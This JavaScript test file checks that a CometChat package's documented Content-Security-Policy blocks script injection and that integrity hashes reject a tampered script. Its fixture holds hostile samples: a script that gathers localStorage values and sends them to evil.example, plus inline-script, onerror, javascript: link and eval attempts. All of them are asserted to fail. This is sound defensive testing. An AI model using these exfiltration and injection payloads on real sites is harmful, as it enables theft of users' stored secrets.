// @ts-check
/** Scripts that do not belong to the page, under the policy that docs/security.md gives. */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { readFile } from "node:fs/promises";
import path from "node:path";
import { packedPackage, serve } from "../harness/index.mjs";
import { alice, app, calls, scene, text } from "./scene.mjs";

const at = scene();

const document = readFileSync(new URL("../../docs/security.md", import.meta.url), "utf8");
const documented = /```http\nContent-Security-Policy:([^`]*)```/.exec(document)?.[1] ?? "";
const policy = documented
  .replaceAll("APP_ID", app.appId)
  .replaceAll("REGION", "eu")
  .replace(/\s+/g, " ")
  .trim();

/**
 * Opens a page under a policy, which tells by its title that its script has run.
 *
 * @param {string} html
 * @param {string} rules
 * @param {Record<string, string>} [scripts]
 */
async function pageUnder(html, rules, scripts = {}) {
  const { project, manifest, folder } = await packedPackage(process.env.COMETCHAT_PACKAGE);
  const bytes = await readFile(path.join(folder, "cometchat.global.js"), "utf8");
  const site = await serve({
    folder: project,
    routes: {
      "/": html.replaceAll("PACKAGE", `/node_modules/${manifest.name}`),
      "/changed.js": { body: `${bytes}\nwindow.changed = true;`, type: "text/javascript" },
      ...Object.fromEntries(
        Object.entries(scripts).map(([name, body]) => [name, { body, type: "text/javascript" }]),
      ),
    },
    headers: (pathname) => ({ ...(pathname === "/" && { "content-security-policy": rules }) }),
  });
  const page = await at.browser.open(`${site.url}/`);
  const hash = createHash("sha384").update(bytes).digest("base64");
  return {
    page,
    integrity: `sha384-${hash}`,
    close: async () => {
      await page.close();
      await site.close();
    },
  };
}

/** Logs in, and tells how it went by the page's title. */
const program = `
  CometChat.init(${text(app.appId)}, { region: "eu" })
    .then(() => CometChat.login(${text(alice)}, ${text(app.authKey)}))
    .then((user) => { document.title = user.uid; }, (error) => { document.title = "rejected " + error.code; });`;

/** What a hostile script tries; it is let into the page to show that it gets nowhere. */
const hostile = `
  window.tried = (async () => {
    document.getElementById("link").click();
    const secrets = Object.values(localStorage).join();
    const sent = await fetch("https://evil.example/?" + secrets).then(() => true, () => false);
    const beacon = await fetch("https://evil.example/", { method: "POST", mode: "no-cors", body: secrets })
      .then(() => true, () => false);
    let evaluated = false;
    try { evaluated = new Function("return true")(); } catch {}
    let written = false;
    try { document.body.innerHTML = "<p>x</p>"; written = true; } catch {}
    return { injected: window.injected === true, sent, beacon, evaluated, written };
  })();`;

at.attack("injected-script", async () => {
  assert.match(policy, /trusted-types/);
  const { page, close } = await pageUnder(
    `<!doctype html><title>waiting</title>
     <body>
     <script src="PACKAGE/cometchat.global.js"></script>
     <script>window.injected = true;</script>
     <img src="x" onerror="window.injected = true">
     <a id="link" href="javascript:window.injected = true">link</a>
     <script src="https://evil.example/v3.0/me"></script>
     <script src="/program.js"></script>`,
    policy,
    { "/program.js": `${program}${hostile}` },
  );
  await page.waitFor("document.title !== 'waiting'");
  assert.equal(await page.evaluate("document.title"), alice);
  const { written, ...never } = await page.evaluate("await tried");
  assert.deepEqual(never, { injected: false, sent: false, beacon: false, evaluated: false });
  if (await page.evaluate("typeof trustedTypes === 'object'"))
    assert.equal(written, false, "Trusted Types");
  assert.deepEqual(
    at.internet.seen.filter(({ host }) => host === "evil.example"),
    [],
  );
  await close();
});

at.attack("changed-script", async () => {
  const first = await pageUnder("<!doctype html>", policy);
  const { integrity } = first;
  await first.close();
  for (const [file, title] of [
    ["PACKAGE/cometchat.global.js", alice],
    ["/changed.js", "missing"],
  ]) {
    const inline = `typeof CometChat === "undefined" ? document.title = "missing" : (() => {${program}})();`;
    const own = createHash("sha384").update(inline).digest("base64");
    const { page, close } = await pageUnder(
      `<!doctype html><title>waiting</title>
       <script src="${file}" integrity="${integrity}" crossorigin="anonymous"></script>
       <script>${inline}</script>`,
      policy.replace("'self' 'wasm", `'${integrity}' 'sha384-${own}' 'wasm`),
    );
    await page.waitFor("document.title !== 'waiting'");
    assert.equal(await page.evaluate("document.title"), title);
    assert.equal(await page.evaluate("window.changed === true"), false);
    await close();
  }
  assert.equal(await at.get(`${calls.init}.then(() => true)`), true);
});
